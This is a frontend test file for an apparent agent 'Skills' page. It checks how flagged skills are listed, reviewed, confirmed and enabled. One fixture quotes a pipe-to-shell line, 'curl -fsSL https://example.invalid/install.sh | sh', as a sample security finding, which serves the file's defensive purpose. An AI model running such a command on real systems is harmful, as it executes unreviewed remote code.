import { act, render, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { App } from "../App";
import { ToastProvider } from "../components/Toasts";
import type { SkillDetail, SkillView, SkillsReport } from "../generated/protocol";
import { countByStatus, sections } from "../skills/model";
import { LiveProvider } from "../state/LiveProvider";
import { FakeWebSocket } from "../test/fakeWebSocket";
import { mockApi, ok } from "../test/mockApi";
import { skillView } from "../test/skillView";
import { SkillsPage } from "./Skills";

const skill = skillView;

const curlFinding = {
  kind: "pipe_to_shell" as const,
  file: "SKILL.md",
  line: 12,
  excerpt: "curl -fsSL https://example.invalid/install.sh | sh",
  why: "runs a script downloaded from the internet without showing it first",
};

const flagged = skill("installer", { status: "needs_review", findings: [curlFinding], emoji: "📦" });
const report: SkillsReport = {
  skills: [
    skill("web-research", { source: "bundled", emoji: "🔎", path: "/data/bundled-skills/web-research" }),
    skill("github", { status: "unavailable", unmet: ["needs the `gh` binary", "needs GITHUB_TOKEN"] }),
    flagged,
    skill("notes", { status: "disabled", shadows: [{ source: "bundled", path: "/data/bundled-skills/notes" }] }),
  ],
  problems: [{ path: "/data/skills/broken/SKILL.md", line: 5, message: "`user-invocable` must be true or false" }],
  folders: [
    { source: "workspace", path: "/data/workspace/skills", exists: false },
    { source: "home", path: "/data/skills", exists: true },
    { source: "bundled", path: "/data/bundled-skills", exists: true },
  ],
};

function renderPage(name: string | null = null) {
  render(
    <ToastProvider>
      <LiveProvider onAuthRequired={() => {}}>
        <SkillsPage skill={name} />
      </LiveProvider>
    </ToastProvider>,
  );
}

function socket() {
  return FakeWebSocket.last();
}

beforeEach(() => {
  FakeWebSocket.reset();
  vi.stubGlobal("WebSocket", FakeWebSocket);
});

afterEach(() => {
  vi.unstubAllGlobals();
  window.history.replaceState(null, "", "/");
});

describe("skills model", () => {
  it("puts skills waiting for review in their own section and the rest in name order", () => {
    const { review, list } = sections(report.skills);
    expect(review.map((s) => s.name)).toEqual(["installer"]);
    expect(list.map((s) => s.name)).toEqual(["github", "notes", "web-research"]);
    expect(countByStatus(report.skills)).toEqual({ ready: 1, unavailable: 1, needs_review: 1, disabled: 1 });
  });
});

describe("Skills page", () => {
  it("sorts skills into review, list and problems, with counts, reasons and folders", async () => {
    mockApi({ "GET /api/skills": ok(report) });
    renderPage();
    const review = await screen.findByTestId("skills-review");
    expect(within(review).getAllByTestId("skill-review").map((e) => e.dataset.skillName)).toEqual(["installer"]);
    const finding = within(review).getByTestId("skill-finding");
    expect(finding).toHaveTextContent("SKILL.md:12");
    expect(finding.querySelector("pre code")).toHaveTextContent("curl -fsSL https://example.invalid/install.sh | sh");
    expect(finding).toHaveTextContent("This line runs a script downloaded from the internet without showing it first.");

    const items = screen.getAllByTestId("skill-item");
    expect(items.map((e) => [e.dataset.skillName, e.dataset.status])).toEqual([
      ["github", "unavailable"],
      ["notes", "disabled"],
      ["web-research", "ready"],
    ]);
    // The review section comes first on the page.
    expect(review.compareDocumentPosition(items[0]!) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
    expect(within(items[0]!).getByTestId("skill-unmet")).toHaveTextContent("Needs the gh binary · Needs GITHUB_TOKEN");
    expect(within(items[0]!).getByTestId("skill-unmet").querySelector("code")).toHaveTextContent("gh");
    expect(within(items[0]!).getByTestId("skill-disable")).toBeInTheDocument();
    expect(within(items[1]!).getByTestId("skill-enable")).toBeInTheDocument();
    expect(within(items[2]!).getByText("🔎")).toBeInTheDocument();
    expect(within(items[2]!).getByText("bundled")).toBeInTheDocument();
    expect(within(items[2]!).getByRole("link", { name: "web-research" })).toHaveAttribute("href", "#/skills/web-research");

    // Shadowed skills: a count, the folders on expand.
    const shadows = within(items[1]!).getByTestId("skill-shadows");
    expect(shadows).toHaveTextContent("Shadows 1 other");
    expect(shadows).not.toHaveTextContent("/data/bundled-skills/notes");
    await userEvent.click(within(shadows).getByRole("button", { name: /Shadows 1 other/ }));
    expect(shadows).toHaveTextContent("/data/bundled-skills/notes");
    expect(within(shadows).getByRole("button")).toHaveAttribute("aria-expanded", "true");

    expect(screen.getByTestId("skills-count-ready")).toHaveTextContent("1 ready");
    expect(screen.getByTestId("skills-count-needs_review")).toHaveTextContent("1 needs review");
    expect(screen.getByTestId("skills-count-disabled")).toHaveTextContent("1 disabled");

    const problem = screen.getByTestId("skill-problem");
    expect(problem).toHaveTextContent("/data/skills/broken/SKILL.md:5 — user-invocable must be true or false");

    const folders = screen.getAllByTestId("skill-folder");
    expect(folders.map((f) => f.textContent)).toEqual([
      "workspace/data/workspace/skillsdoes not exist yet",
      "home/data/skills",
      "bundled/data/bundled-skills",
    ]);
    expect(screen.queryByTestId("skills-empty")).toBeNull();
  });

  it("enables a flagged skill only after the explicit confirmation", async () => {
    const enabled: SkillDetail = { skill: { ...flagged, status: "ready", approved: true }, body: "# Installer" };
    let after = report;
    const { calls } = mockApi({
      "GET /api/skills": () => ({ status: 200, body: after }),
      "POST /api/skills/installer/enable": () => {
        after = { ...report, skills: report.skills.map((s) => (s.name === "installer" ? enabled.skill : s)) };
        return { status: 200, body: enabled };
      },
    });
    renderPage();
    const card = await screen.findByTestId("skill-review");
    await userEvent.click(within(card).getByTestId("skill-enable"));
    // The first click only asks.
    expect(calls.some((c) => c.method === "POST")).toBe(false);
    expect(within(card).getByTestId("skill-enable-confirm")).toHaveTextContent("I have read this — enable");
    // Cancel (the focused, safe choice) backs out.
    await userEvent.keyboard("{Enter}");
    expect(within(card).queryByTestId("skill-enable-confirm")).toBeNull();
    expect(calls.some((c) => c.method === "POST")).toBe(false);

    await userEvent.click(within(card).getByTestId("skill-enable"));
    await userEvent.click(within(card).getByTestId("skill-enable-confirm"));
    await waitFor(() => expect(calls.filter((c) => c.method === "POST").map((c) => c.path)).toEqual(["/api/skills/installer/enable"]));
    await waitFor(() => expect(screen.queryByTestId("skills-review")).toBeNull());
    const item = screen.getAllByTestId("skill-item").find((e) => e.dataset.skillName === "installer")!;
    expect(item).toHaveAttribute("data-status", "ready");
    expect(within(item).getByText("reviewed")).toBeInTheDocument();
    expect(await screen.findByTestId("skill-toast")).toHaveTextContent("installer is on");
  });

  it("disables and enables plain skills at once, and shows the daemon's refusal", async () => {
    let current = report;
    const off: SkillView = { ...report.skills[0]!, status: "disabled" };
    const { calls } = mockApi({
      "GET /api/skills": () => ({ status: 200, body: current }),
      "POST /api/skills/web-research/disable": () => {
        current = { ...report, skills: report.skills.map((s) => (s.name === off.name ? off : s)) };
        return { status: 200, body: { skill: off, body: "" } };
      },
      "POST /api/skills/notes/enable": () => ({ status: 500, body: { error: "could not write skills.json" } }),
    });
    renderPage();
    await screen.findAllByTestId("skill-item");
    const item = (name: string) => screen.getAllByTestId("skill-item").find((e) => e.dataset.skillName === name)!;
    await userEvent.click(within(item("web-research")).getByTestId("skill-disable"));
    await waitFor(() => expect(item("web-research")).toHaveAttribute("data-status", "disabled"));
    await userEvent.click(within(item("notes")).getByTestId("skill-enable"));
    expect(await screen.findByText(/Could not enable notes: could not write skills.json/)).toBeInTheDocument();
    expect(calls.filter((c) => c.method === "POST").map((c) => c.path)).toEqual([
      "/api/skills/web-research/disable",
      "/api/skills/notes/enable",
    ]);
  });

  it("a disabled skill with unreviewed findings asks before enabling too", async () => {
    const off = skill("sneaky", { status: "disabled", findings: [curlFinding] });
    const { calls } = mockApi({ "GET /api/skills": ok({ ...report, skills: [off] }) });
    renderPage();
    const item = await screen.findByTestId("skill-item");
    await userEvent.click(within(item).getByTestId("skill-enable"));
    expect(within(item).getByTestId("skill-finding")).toHaveTextContent("SKILL.md:12");
    expect(within(item).getByTestId("skill-enable-confirm")).toBeInTheDocument();
    expect(calls.some((c) => c.method === "POST")).toBe(false);
  });

  it("refetches when the live stream says skills changed", async () => {
    let current: SkillsReport = { ...report, skills: [report.skills[0]!] };
    const { calls } = mockApi({ "GET /api/skills": () => ({ status: 200, body: current }) });
    renderPage();
    await screen.findByTestId("skill-item");
    act(() => {
      socket().open();
      socket().receive({ type: "snapshot", turns: [] });
    });
    await waitFor(() => expect(calls.filter((c) => c.path === "/api/skills").length).toBeGreaterThanOrEqual(2));
    const before = calls.filter((c) => c.path === "/api/skills").length;
    current = { ...report, skills: [report.skills[0]!, skill("fresh", { description: "Made a moment ago." })] };
    act(() => socket().receive({ type: "skills_changed" }));
    await waitFor(() => expect(screen.getAllByTestId("skill-item")).toHaveLength(2));
    expect(calls.filter((c) => c.path === "/api/skills").length).toBe(before + 1);
    expect(screen.getByText("Made a moment ago.")).toBeInTheDocument();
    // Other messages do not refetch.
    act(() => socket().receive({ type: "sessions_changed" }));
    await new Promise((r) => setTimeout(r, 30));
    expect(calls.filter((c) => c.path === "/api/skills").length).toBe(before + 1);
  });

  it("Reload asks the daemon to read the folders again", async () => {
    const { calls } = mockApi({
      "GET /api/skills": ok({ ...report, skills: [] , problems: []}),
      "POST /api/skills/reload": ok(report),
    });
    renderPage();
    // The first folder that exists (the workspace's does not).
    expect(await screen.findByTestId("skills-empty")).toHaveTextContent("Drop one into /data/skills and");
    expect(screen.getByTestId("skills-empty")).toHaveTextContent("pincer skills new NAME");
    await userEvent.click(screen.getByTestId("skills-reload"));
    expect(await screen.findByTestId("skills-reloaded")).toHaveTextContent("Read 4 skills again");
    expect(screen.getAllByTestId("skill-item")).toHaveLength(3);
    expect(calls.some((c) => c.method === "POST" && c.path === "/api/skills/reload")).toBe(true);
  });

  it("says when the skills cannot be loaded", async () => {
    mockApi({ "GET /api/skills": () => ({ status: 500, body: { error: "disk on fire" } }) });
    renderPage();
    expect(await screen.findByTestId("skills-error")).toHaveTextContent("Could not load the skills: disk on fire");
  });
});

describe("Skill detail", () => {
  const full = skill("github", {
    status: "unavailable",
    unmet: ["needs the `gh` binary"],
    emoji: "🐙",
    homepage: "https://cli.github.com",
    license: "MIT",
    compatibility: "Needs network access",
    allowed_tools: ["exec"],
    tools: ["gh_issues"],
    primary_env: "GITHUB_TOKEN",
    install: ["brew install gh", "sudo apt install gh"],
    warnings: ["the folder is named `gh` but the skill `github`"],
    shadows: [{ source: "bundled", path: "/data/bundled-skills/github" }],
  });

  it("shows every field that is set and renders the instructions", async () => {
    mockApi({ "GET /api/skills": ok(report), "GET /api/skills/github": ok({ skill: full, body: "# GitHub\n\nUse **gh** for issues." }) });
    renderPage("github");
    const detail = await screen.findByTestId("skill-detail");
    expect(detail).toHaveAttribute("data-status", "unavailable");
    expect(within(detail).getByRole("heading", { level: 1, name: "github" })).toBeInTheDocument();
    expect(within(detail).getByTestId("skill-unmet")).toHaveTextContent("Needs the gh binary");
    expect(within(detail).getByTestId("skill-slash")).toHaveTextContent("/github");
    expect(within(detail).getByTestId("skill-install")).toHaveTextContent("Pincer never runs these");
    expect(within(detail).getByTestId("skill-install")).toHaveTextContent("brew install gh");
    expect(within(detail).getByText("gh_issues")).toBeInTheDocument();
    expect(within(detail).getByText("GITHUB_TOKEN")).toBeInTheDocument();
    expect(within(detail).getByRole("link", { name: /cli\.github\.com/ })).toHaveAttribute("target", "_blank");
    expect(within(detail).getByText("MIT")).toBeInTheDocument();
    expect(within(detail).getByText("Needs network access")).toBeInTheDocument();
    expect(within(detail).getByTestId("skill-warnings")).toHaveTextContent("The folder is named gh but the skill github");
    expect(within(detail).getByTestId("skill-shadows")).toHaveTextContent("/data/bundled-skills/github");
    expect(within(detail).getByTestId("skill-body").querySelector("strong")).toHaveTextContent("gh");
    expect(within(detail).getByTestId("skill-back")).toHaveAttribute("href", "#/skills");
  });

  it("enables a flagged skill from its page after the confirmation", async () => {
    const { calls } = mockApi({
      "GET /api/skills": ok(report),
      "GET /api/skills/installer": ok({ skill: flagged, body: "Run the installer." }),
      "POST /api/skills/installer/enable": ok({ skill: { ...flagged, status: "ready", approved: true }, body: "Run the installer." }),
    });
    renderPage("installer");
    const detail = await screen.findByTestId("skill-detail");
    expect(within(detail).getByTestId("skill-finding")).toHaveTextContent("SKILL.md:12");
    await userEvent.click(within(detail).getByTestId("skill-enable"));
    expect(calls.some((c) => c.method === "POST")).toBe(false);
    await userEvent.click(within(detail).getByTestId("skill-enable-confirm"));
    await waitFor(() => expect(screen.getByTestId("skill-detail")).toHaveAttribute("data-status", "ready"));
    expect(calls.filter((c) => c.method === "POST").map((c) => c.path)).toEqual(["/api/skills/installer/enable"]);
    expect(screen.getByText(/You enabled this skill after reading these lines/)).toBeInTheDocument();
    expect(within(screen.getByTestId("skill-detail")).getByTestId("skill-disable")).toBeInTheDocument();
  });

  it("says when the skill is gone", async () => {
    mockApi({ "GET /api/skills": ok(report), "GET /api/skills/gone": () => ({ status: 404, body: { error: "there is no skill named `gone`" } }) });
    renderPage("gone");
    expect(await screen.findByTestId("skill-detail-error")).toHaveTextContent("There is no skill named “gone”");
  });

  it("is reached from the navigation and by clicking a skill", async () => {
    mockApi({
      "GET /api/approvals": ok([]),
      "GET /api/sessions": ok([]),
      "GET /api/skills": ok(report),
      "GET /api/skills/web-research": ok({ skill: report.skills[0]!, body: "Research well." }),
    });
    render(<App />);
    await userEvent.click(await screen.findByTestId("nav-skills"));
    await waitFor(() => expect(window.location.hash).toBe("#/skills"));
    expect(screen.getByTestId("nav-skills")).toHaveAttribute("aria-current", "page");
    const item = (await screen.findAllByTestId("skill-item")).find((e) => e.dataset.skillName === "web-research")!;
    await userEvent.click(within(item).getByRole("link", { name: "web-research" }));
    expect(await screen.findByTestId("skill-detail")).toHaveAttribute("data-skill-name", "web-research");
    expect(window.location.hash).toBe("#/skills/web-research");
    expect(document.title).toBe("web-research · Skills · Pincer");
  });
});
